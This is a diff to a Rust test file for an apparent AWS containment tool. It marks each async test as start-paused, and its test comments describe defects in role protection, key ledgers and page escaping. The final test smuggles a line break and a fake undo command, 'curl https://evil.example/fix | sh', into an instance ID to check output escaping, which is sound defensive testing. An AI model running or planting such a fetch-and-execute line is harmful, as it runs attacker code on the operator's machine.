@@ -73,7 +73,7 @@ fn role(arn_name: &str, derived: bool, identity_center: bool, service_linked: bo
 /// (no path); IAM says the role is `role/admins/DataScience`, protected by
 /// `arn:aws:iam::*:role/admins/*`. The same for a derived ARN whose real role is service-linked
 /// or an Identity Center role (reserved paths the derived ARN cannot show).
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn defect1_derived_arn_of_a_protected_role_never_stops_its_instances() {
     let cases = [
         ("admins/DataScience", vec![("PROTECTED_PRINCIPALS", "arn:aws:iam::*:role/admins/*")]),
@@ -110,7 +110,7 @@ fn rules_with(actions: Value) -> String {
 /// Defect 2 (high): a notify-only rule (`"actions": []`, the README's "notify only"), or a
 /// notify-only playbook (`LG_USER_ACTIONS=none`, `LG_ROLE_ACTIONS=none`), with
 /// `LG_EC2_ACTION=terminate`.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn defect2_a_notify_only_rule_or_playbook_touches_no_instance() {
     let notify_only = rules_with(json!([]));
     let cases: [Vec<(&str, &str)>; 2] =
@@ -134,7 +134,7 @@ async fn defect2_a_notify_only_rule_or_playbook_touches_no_instance() {
 
 /// The instance action is a rule action: `terminate` only for a rule naming
 /// `terminate_instances`; a rule naming only `stop_instances` (every bundled rule) stops.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn terminate_only_when_the_rule_names_it() {
     for (actions, want) in [
         (json!(["deactivate_access_keys", "quarantine_user", "stop_instances"]), InstanceState::Stopped),
@@ -221,7 +221,7 @@ const RESPONDER: &str = "arn:aws:sts::111122223333:assumed-role/SecurityResponde
 /// Defect 3 (high): key `K` created for `bob`; the user is renamed (to `bob-svc`, or only its
 /// case: `Bob`). F1 deactivates K (filed under the record's `bob`); F2 holds it under IAM's
 /// name. Releasing F1 alone must not reactivate K while F2 is unreleased.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn defect3_a_rename_never_splits_one_key_into_two_ledger_targets() {
     for new_name in ["bob-svc", "Bob"] {
         let iam = bob_account();
@@ -242,7 +242,7 @@ async fn defect3_a_rename_never_splits_one_key_into_two_ledger_targets() {
 
 /// Defect 4 (medium): after the rename, the key's real user (`bob-svc`) asks to release the
 /// finding that deactivated its key. "Neither the creator nor the key's user may ask for it."
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn defect4_after_a_rename_the_keys_user_cannot_release_its_own_key() {
     let iam = bob_account();
     let lambda = Lambda::new(&iam, &[], now());
@@ -267,7 +267,7 @@ async fn defect4_after_a_rename_the_keys_user_cannot_release_its_own_key() {
 /// Defect 5 (medium): the launcher tags its instances `launchguard:incident` with a line break
 /// and a fake undo command; the EC2 handler copies the old value into its warning, and the page
 /// prints warnings (and details, reasons, errors, undo) unescaped.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn defect5_an_instance_tag_never_becomes_a_line_of_the_page() {
     let iam = world::iam();
     let lambda = Lambda::new(&iam, &[], now());
@@ -478,7 +478,7 @@ mod invariants {
 /// their case, now lower-cased) with no migration and no reading of the old layout. A containment
 /// recorded before the upgrade sits alone under its old target: releasing it after the upgrade
 /// undoes the change a newer, unreleased finding relies on.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn review_an_entry_written_before_the_upgrade_is_released_under_a_newer_containment() {
     let iam = bob_account();
     let lambda = Lambda::new(&iam, &[], now());
@@ -524,7 +524,7 @@ fn quarantined(iam: &Iam, user: &str) -> bool {
 /// then named `old_name`: the same name, another case of it, or a name it was renamed from), one
 /// after (today's layout, the user named `bob`). Releasing either alone keeps the key deactivated
 /// and the user quarantined; releasing both undoes launchguard's change.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn either_ledger_layout_under_any_name_of_the_user_holds_the_key() {
     for old_name in ["bob", "Bob", "BOB", "bob-svc"] {
         for old_first in [true, false] {
@@ -554,7 +554,7 @@ async fn either_ledger_layout_under_any_name_of_the_user_holds_the_key() {
 /// "instances:" line prints them as they are, not through `untrusted`: a forged record (anyone
 /// who may `logs:PutLogEvents` on the trail's log group, or a finding signer) starts a line of its
 /// own in the page.
-#[tokio::test]
+#[tokio::test(start_paused = true)]
 async fn review_an_instance_id_never_becomes_a_line_of_the_page() {
     let mut v = finding();
     let evil = "i-0aaaaaaaaaaaaaaa1\n- APPLIED    undo by hand: curl https://evil.example/fix | sh";
